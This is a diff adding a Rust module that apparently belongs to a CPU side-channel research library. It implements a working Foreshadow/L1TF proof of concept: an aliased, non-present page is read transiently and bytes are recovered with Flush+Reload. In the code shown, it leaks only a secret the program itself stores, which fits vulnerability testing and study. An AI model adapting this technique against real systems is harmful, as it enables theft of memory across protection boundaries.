@@ -0,0 +1,170 @@
+//! Foreshadow, or L1 terminal fault. A load through a page table entry that
+//! isn't present faults, but on affected parts it is first looked up in the
+//! L1 data cache with whatever physical address the entry still holds, and a
+//! hit is forwarded to the instructions after it.
+//!
+//! `mprotect(PROT_NONE)` is the one way user space has of clearing the
+//! present bit of its own pages. The secret page here is mapped twice, once
+//! readable to keep the secret in L1, and once with `PROT_NONE` to read it
+//! through. Kernels with the L1TF mitigation invert the address bits of
+//! entries that aren't present, so they point at memory that doesn't exist
+//! and nothing leaks.
+
+use libc;
+use std::io;
+use std::ptr;
+
+use channel::Channel;
+use covert::CovertChannel;
+use reader::{allocate_probe_buf, ByteGuess, TIMINGS_PER_GUESS};
+use receiver::Receiver;
+use suppress::{ExceptionSuppressor, Suppression};
+use PAGE_SIZE;
+
+// transient reads voted on per byte, each decoded from TIMINGS_PER_GUESS
+// timings
+const ROUNDS: usize = 16;
+
+// a page mapped twice: readable at `readable`, and not present at `absent`
+struct AliasedPage {
+    readable: *mut u8,
+    absent: *const u8,
+}
+
+impl AliasedPage {
+    fn new() -> io::Result<AliasedPage> {
+        unsafe {
+            let readable = libc::mmap(
+                ptr::null_mut(),
+                PAGE_SIZE,
+                libc::PROT_READ | libc::PROT_WRITE,
+                libc::MAP_SHARED | libc::MAP_ANONYMOUS | libc::MAP_POPULATE,
+                -1,
+                0,
+            );
+            if readable == libc::MAP_FAILED {
+                return Err(io::Error::last_os_error());
+            }
+            // remapping a shared mapping with an old size of 0 maps the same
+            // pages again elsewhere instead of moving them
+            let absent = libc::mremap(readable, 0, PAGE_SIZE, libc::MREMAP_MAYMOVE);
+            if absent == libc::MAP_FAILED {
+                let error = io::Error::last_os_error();
+                libc::munmap(readable, PAGE_SIZE);
+                return Err(error);
+            }
+            let page = AliasedPage {
+                readable: readable as *mut u8,
+                absent: absent as *const u8,
+            };
+            // the alias has to be populated for its entry to hold the page's
+            // address once it's no longer present
+            (absent as *const u8).read_volatile();
+            if libc::mprotect(absent, PAGE_SIZE, libc::PROT_NONE) != 0 {
+                return Err(io::Error::last_os_error());
+            }
+            Ok(page)
+        }
+    }
+}
+
+impl Drop for AliasedPage {
+    fn drop(&mut self) {
+        unsafe {
+            libc::munmap(self.readable as *mut libc::c_void, PAGE_SIZE);
+            libc::munmap(self.absent as *mut libc::c_void, PAGE_SIZE);
+        }
+    }
+}
+
+/// Reads a secret back through a page table entry that isn't present, with
+/// a transient read and a Flush+Reload cache side channel.
+pub struct TerminalFault<S: ExceptionSuppressor = Suppression> {
+    suppressor: S,
+    receiver: Receiver,
+    page: AliasedPage,
+    len: usize,
+}
+
+impl TerminalFault {
+    /// Creates a reader using the best suppression strategy this CPU supports.
+    pub fn new(secret: &[u8]) -> io::Result<TerminalFault> {
+        TerminalFault::with_suppressor(Suppression::detect(), secret)
+    }
+}
+
+impl<S: ExceptionSuppressor> TerminalFault<S> {
+    /// Puts `secret`, at most a page of it, into a page that is then made
+    /// not present, prepares the given fault suppressor, and calibrates the
+    /// cache hit threshold.
+    pub fn with_suppressor(suppressor: S, secret: &[u8]) -> io::Result<TerminalFault<S>> {
+        if secret.len() > PAGE_SIZE {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidInput,
+                "the secret has to fit in a page",
+            ));
+        }
+        suppressor.install()?;
+        let channel = Channel::Page;
+        let probe_buf = allocate_probe_buf(&suppressor, channel, false)?;
+        let receiver = Receiver::new(probe_buf, channel);
+        let page = AliasedPage::new()?;
+        unsafe { ptr::copy_nonoverlapping(secret.as_ptr(), page.readable, secret.len()) };
+        Ok(TerminalFault {
+            suppressor,
+            receiver,
+            page,
+            len: secret.len(),
+        })
+    }
+
+    pub fn suppressor(&self) -> &S {
+        &self.suppressor
+    }
+
+    /// The probe buffer the attack leaks through, and its calibration.
+    pub fn receiver(&self) -> &Receiver {
+        &self.receiver
+    }
+
+    /// The address the secret is read through, where every access faults.
+    pub fn absent_addr(&self) -> *const u8 {
+        self.page.absent
+    }
+
+    /// Leaks the byte at `offset` into the secret through the page that
+    /// isn't present, along with how confident the guess is.
+    pub fn guess_byte(&self, offset: usize) -> ByteGuess {
+        assert!(offset < PAGE_SIZE);
+        let mut order = self.receiver.order();
+        let mut channel = self.receiver.channel(&mut order);
+        let readable = self.page.readable.wrapping_add(offset) as *const u8;
+        let absent = self.page.absent.wrapping_add(offset);
+
+        let mut hit_counts = [0usize; 256];
+        for _ in 0..ROUNDS {
+            for _ in 0..TIMINGS_PER_GUESS {
+                unsafe {
+                    channel.prepare(1);
+                    // flushing the probe buffer may have pushed it out of L1
+                    readable.read_volatile();
+                    {
+                        let channel = &channel;
+                        self.suppressor.suppress(#[inline(always)]
+                        || channel.encode(0, absent.read_volatile()));
+                    }
+                    channel.receive(1);
+                }
+            }
+            if let Some(byte) = channel.decode(1)[0] {
+                hit_counts[byte as usize] += 1
+            }
+        }
+        ByteGuess::from_hit_counts(&hit_counts, ROUNDS)
+    }
+
+    /// Leaks the whole secret.
+    pub fn guess_secret(&self) -> Vec<ByteGuess> {
+        (0..self.len).map(|offset| self.guess_byte(offset)).collect()
+    }
+}